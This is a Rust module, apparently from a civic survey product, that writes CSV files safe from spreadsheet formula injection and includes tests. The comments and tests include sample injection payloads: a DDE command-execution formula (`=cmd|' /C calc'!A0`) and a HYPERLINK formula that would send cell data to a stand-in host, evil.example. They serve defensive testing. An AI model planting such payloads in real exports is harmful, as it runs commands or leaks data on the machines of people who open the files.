//! CSV that spreadsheets open as data: every CSV the product writes goes through [`Writer`].
//!
//! Residents' answers end up in Excel, LibreOffice and Google Sheets, which run a cell that
//! starts with `=`, `+`, `-` or `@` as a formula (`=HYPERLINK(…)`, `=cmd|' /C calc'!A0`), and
//! strip a leading tab or carriage return before doing the same. Following OWASP's CSV-injection
//! guidance, such a cell is written with a single quote in front (`'=1+1`), which every one of
//! them shows as text and never evaluates. JSON output is not affected: it stays exact.
//!
//! Two kinds of value are deliberately treated differently:
//! - a plain decimal number, negative or not (`-3`, `-2.5`, `40202`), is written as it is, so it
//!   stays a number in a spreadsheet; it cannot be a formula;
//! - a phone number in E.164 (`+15025550123`) starts with `+`, so it gets the quote and opens
//!   as the text `'+15025550123` — which keeps the `+` and every digit, where unquoted a
//!   spreadsheet would read it as the number 15025550123 and show 1.50256E+10.
//!
//! Use [`Writer`] for whole files; [`cell`] is the rule for one value.

use std::borrow::Cow;
use std::io::Write;

/// Characters that make a spreadsheet read a cell as a formula when they come first (OWASP:
/// `=`, `+`, `-`, `@`, tab, carriage return), plus their fullwidth forms, which some
/// spreadsheets fold to ASCII, and line feed, which some strip like the carriage return.
const TRIGGERS: &[char] = &[
    '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// `value` as it is safe to put in a CSV cell: with a `'` in front when a spreadsheet would
/// otherwise take it as a formula (it starts, after any spaces, with one of `= + - @`, tab or
/// carriage return), unchanged otherwise. Plain decimal numbers such as `-3` stay unchanged.
///
/// ```
/// use civictext::csv_safe::cell;
/// assert_eq!(cell("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
/// assert_eq!(cell("+15025550123"), "'+15025550123");
/// assert_eq!(cell("-3"), "-3");
/// assert_eq!(cell("Fix the swings"), "Fix the swings");
/// ```
pub fn cell(value: &str) -> Cow<'_, str> {
    let first = value.trim_start_matches(' ').chars().next();
    if first.is_some_and(|c| TRIGGERS.contains(&c)) && !is_plain_negative_number(value) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// `-` then ASCII digits, with at most one `.` between digits: "-3", "-2.5".
fn is_plain_negative_number(value: &str) -> bool {
    let Some(rest) = value.strip_prefix('-') else {
        return false;
    };
    let (whole, fraction) = rest.split_once('.').unwrap_or((rest, "1"));
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && digits(fraction)
}

/// An RFC 4180 CSV writer (UTF-8, CRLF line ends, quotes doubled) that passes every cell
/// through [`cell`]. Header cells go through it too: they can carry staff-written question ids.
pub struct Writer<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> Writer<W> {
    /// A writer onto `out`.
    pub fn new(out: W) -> Self {
        Self {
            inner: csv::WriterBuilder::new()
                .terminator(csv::Terminator::CRLF)
                .from_writer(out),
        }
    }

    /// Writes one record, each field made safe.
    pub fn write_record<I, T>(&mut self, record: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        for field in record {
            self.write_field(field.as_ref())?;
        }
        self.end_record()
    }

    /// Writes one field of the current record, made safe (copied only when it needs the quote).
    pub fn write_field(&mut self, field: &str) -> Result<(), csv::Error> {
        self.inner.write_field(cell(field).as_bytes())
    }

    /// Ends the current record (after at least one field).
    pub fn end_record(&mut self) -> Result<(), csv::Error> {
        self.inner.write_record(None::<&[u8]>)
    }

    /// The underlying writer, holding what has been flushed to it so far (the writer buffers
    /// up to 8 KiB itself).
    pub fn get_ref(&self) -> &W {
        self.inner.get_ref()
    }

    /// Flushes what is buffered to the underlying writer.
    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }

    /// Flushes everything and returns the underlying writer.
    pub fn into_inner(self) -> std::io::Result<W> {
        self.inner.into_inner().map_err(|e| {
            let kind = e.error().kind();
            std::io::Error::new(kind, e.error().to_string())
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_of_every_kind_are_shown_as_text() {
        for attack in [
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "+1+1",
            "-1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "  =1+1",
            "＝1+1",
            "-",
            "+",
            "-1e10",
            "--3",
        ] {
            assert_eq!(cell(attack), format!("'{attack}"), "{attack:?}");
        }
    }

    #[test]
    fn ordinary_answers_and_plain_negative_numbers_are_unchanged() {
        for ok in [
            "",
            "Fix the swings",
            "40202",
            "-3",
            "-2.5",
            "3-4",
            "a=b",
            "e-mail me",
            "'quoted",
            "😀 great",
            "2026-12-05",
        ] {
            assert_eq!(cell(ok), ok, "{ok:?}");
        }
    }

    #[test]
    fn phone_numbers_keep_their_plus_as_text() {
        assert_eq!(cell("+15025550123"), "'+15025550123");
        assert_eq!(cell("+1 502 555 0123"), "'+1 502 555 0123");
    }

    #[test]
    fn the_writer_quotes_fields_and_makes_every_cell_safe() {
        let mut out = Vec::new();
        let mut w = Writer::new(&mut out);
        w.write_record(["id", "=answer"]).unwrap();
        w.write_record(["1", "=1+1, \"two\""]).unwrap();
        w.write_record(["-3", "@x"]).unwrap();
        w.flush().unwrap();
        drop(w);
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "id,'=answer\r\n1,\"'=1+1, \"\"two\"\"\"\r\n-3,'@x\r\n"
        );
    }
}
